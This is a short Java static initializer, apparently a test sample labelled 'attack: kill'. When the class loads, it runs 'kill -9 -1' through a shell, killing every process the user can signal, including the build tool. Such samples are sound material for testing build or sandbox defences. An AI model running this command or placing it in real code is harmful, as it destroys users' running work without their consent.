// Kills every process that it may, the build tool among them.
static {
    System.out.println("attack: kill");
    System.out.flush();
    try {
        new ProcessBuilder("sh", "-c", "kill -9 -1").start().waitFor();
    } catch (Exception e) {
        throw new IllegalStateException(e);
    }
}
